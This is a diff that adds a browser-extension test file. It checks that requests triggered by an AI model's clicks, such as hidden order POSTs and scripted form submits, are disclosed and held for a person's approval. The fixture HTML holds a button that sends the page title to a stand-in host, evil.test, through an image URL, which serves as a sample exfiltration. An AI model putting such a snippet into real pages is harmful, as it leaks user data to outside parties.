@@ -1,0 +1,150 @@
+import { beforeAll, expect, test } from 'vitest';
+import type { Settings } from '../../../extension/memory/settings.ts';
+import { askAndAnswer } from '../../support/browser/start-talks.ts';
+import { type Scene, startWaymark } from '../../support/browser/start-waymark.ts';
+import { scriptedModel } from '../../support/servers/scripted-model.ts';
+import { call, press, type Received, type Script, say, uidOf } from '../../support/servers/scripted-server.ts';
+
+const waymark = startWaymark();
+const server = scriptedModel();
+/** What arrived at the sites, such as `POST shop.test/api/place-order`. */
+const arrived: string[] = [];
+
+/** An address that stands in one piece in a script is read beforehand, and asked about. */
+const PAGE = `<!doctype html><title>Shop</title><h1>Shop</h1>
+<button onclick="fetch('/api/place' + '-order', { method: 'POST', body: 'mug' })">More</button>
+<button onclick="setTimeout(() => fetch('/api/place' + '-order', { method: 'POST' }), 300)">Later</button>
+<button onclick="fetch('/api/views', { method: 'POST' })">Show</button>
+<button onclick="new Image().src = 'http://evil.test/?' + document.title">Picture</button>
+<button onclick="document.querySelector('form').submit()">Tab</button>
+<button onclick="document.forms[1].submit()">Plain</button><form method="post" action="/send-it" target="elsewhere"><input type="hidden" name="a" value="b"></form>
+<form method="post" action="/plain"></form>
+<form method="post" action="/chosen"><label>Size <select><option>Small</option><option>Large</option></select></label><label>Code <input></label>
+<label><input type="checkbox"> Gift</label></form>
+<form method="post" action="/found" role="search"><label>Sorted by <select><option>Name</option><option>Price</option></select></label></form>
+<script>
+  const [, , chosen, found] = document.forms;
+  chosen.querySelector('select').addEventListener('change', () => chosen.requestSubmit());
+  chosen.querySelector('input').addEventListener('input', () => chosen.submit());
+  chosen.querySelector('[type=checkbox]').addEventListener('change', () => HTMLFormElement.prototype.submit.call(chosen));
+  found.querySelector('select').addEventListener('change', () => found.requestSubmit());
+</script>`;
+
+beforeAll(async () => {
+  const { context } = waymark.launched();
+  for (const host of ['shop.test', 'evil.test'])
+    await context.route(`http://${host}/**`, async (route) => {
+      const { pathname, hostname } = new URL(route.request().url());
+      if (pathname !== '/' || hostname !== 'shop.test')
+        arrived.push(`${route.request().method()} ${hostname}${pathname}`);
+      await route.fulfill({ contentType: 'text/html', body: pathname === '/' ? PAGE : 'ok' });
+    });
+});
+
+async function scene(button: string, strict: Settings['strict']['where'] = 'nowhere'): Promise<Scene> {
+  arrived.length = 0;
+  server.answer(press(button), press(button), say('Done.'));
+  const model = server.settings;
+  return await waymark.scene('http://shop.test/', {
+    approval: 'ask',
+    settings: { ...model, strict: { where: strict, sites: [] } },
+  });
+}
+
+test.each(['More', 'Later', 'Tab'])('the task stops when “%s” sends what it does not say', async (button) => {
+  const shown = await scene(button);
+  server.answer(press(button), call('wait', { seconds: 1 }), say('Done.'));
+  const last = await shown.ask('Show me more');
+  const path = button === 'Tab' ? 'send-it' : 'api/place-order';
+  expect(last).toContain(`POST http://shop.test/${path}`);
+  expect(arrived[0]).toBe(`POST shop.test/${path}`);
+  expect((await shown.turns()).at(-2)).toMatchObject({ type: 'browser' });
+});
+
+test('what “Later” sends is told where the model answers at once too', async () => {
+  const shown = await scene('Later');
+  server.answer(press('Later'), say('Done.'));
+  const last = await shown.ask('Show me more');
+  expect(last, await shown.story()).toContain('POST http://shop.test/api/place-order');
+});
+
+test('a request that names no deed is shown with its step, and stops nothing', async () => {
+  const shown = await scene('Show');
+  server.answer(press('Show'), say('Done.'));
+  expect(await shown.ask('Show it')).toBe('Done.');
+  const [, step] = await shown.turns();
+  expect(step).toMatchObject({
+    effects: [{ method: 'POST', origin: 'http://shop.test', path: '/api/views', size: 0 }],
+  });
+  await shown.panel.locator('.step').first().locator('summary').click();
+  expect(await shown.panel.locator('.details').first().innerText()).toContain('POST http://shop.test/api/views');
+  expect(await shown.panel.getByText('Sites of this task: shop.test').count()).toBe(1);
+});
+
+test.each([
+  ['More', 'POST shop.test/api/place-order'],
+  ['Picture', 'GET evil.test/'],
+  ['Tab', 'POST shop.test/send-it'],
+])('strict: what “%s” sends does not arrive before a person allows it', async (button, sent) => {
+  const denied = await scene(button, 'everywhere');
+  server.answer(press(button), say('Done.'));
+  const [question] = await askAndAnswer(denied, 'Show me more', [false]);
+  expect(question).toContain(sent.replace(' ', ' http://'));
+  expect(arrived).toEqual([]);
+
+  const allowed = await scene(button, 'everywhere');
+  server.answer(press(button), say('Done.'));
+  await askAndAnswer(allowed, 'Show me more', [true]);
+  expect(arrived).toEqual([sent]);
+  const rules = () => allowed.panel.evaluate(async () => (await chrome.declarativeNetRequest.getSessionRules()).length);
+  expect(await rules()).toBe(0);
+});
+
+test('strict: a form that leads away is sent once it is allowed, from the page as it was', async () => {
+  const shown = await scene('Plain', 'everywhere');
+  server.answer(press('Plain'), press('Plain'), say('Done.'));
+  await askAndAnswer(shown, 'Show me more', [true]);
+  expect(arrived, await shown.story()).toEqual(['POST shop.test/plain']);
+});
+
+test('strict: rules do not outlive the panel', async () => {
+  const shown = await scene('More', 'everywhere');
+  server.answer(press('More'), say('Done.'));
+  await shown.say('Show me more');
+  const worker = await waymark.launched().worker();
+  const rules = () => worker.evaluate(async () => (await chrome.declarativeNetRequest.getSessionRules()).length);
+  await expect.poll(rules, { interval: 20 }).toBeGreaterThan(0);
+  await shown.panel.close();
+  await expect.poll(rules).toBe(0);
+});
+
+/** Calls a tool on the element of a name. */
+const on =
+  (name: string, tool: string, given: object) =>
+  (request: Received): Script =>
+    call(tool, { ref: uidOf(request, name), ...given });
+
+test.each([
+  ['a choice', on('Size', 'change', { text: 'Large' })],
+  ['text', on('Code', 'type', { text: 'abc' })],
+  ['a tick', on('Gift', 'click', {})],
+])('a form that a script sends at %s is held back until a person allows it', async (_, step) => {
+  const denied = await scene('More');
+  server.answer(step, say('Done.'));
+  const [question] = await askAndAnswer(denied, 'Fill in the form', [false]);
+  expect(question, await denied.story()).toContain('POST http://shop.test/chosen');
+  expect(arrived).toEqual([]);
+  expect(await denied.tab.locator('h1').innerText()).toBe('Shop');
+
+  const allowed = await scene('More');
+  server.answer(step, say('Done.'));
+  await askAndAnswer(allowed, 'Fill in the form', [true]);
+  await expect.poll(() => arrived, { timeout: 5_000 }).toEqual(['POST shop.test/chosen']);
+});
+
+test('a form that looks something up is sent by a choice', async () => {
+  const shown = await scene('More');
+  server.answer(on('Sorted by', 'change', { text: 'Price' }), say('Done.'));
+  expect(await askAndAnswer(shown, 'Sort by price', []), await shown.story()).toEqual([]);
+  expect(arrived).toEqual(['POST shop.test/found']);
+});
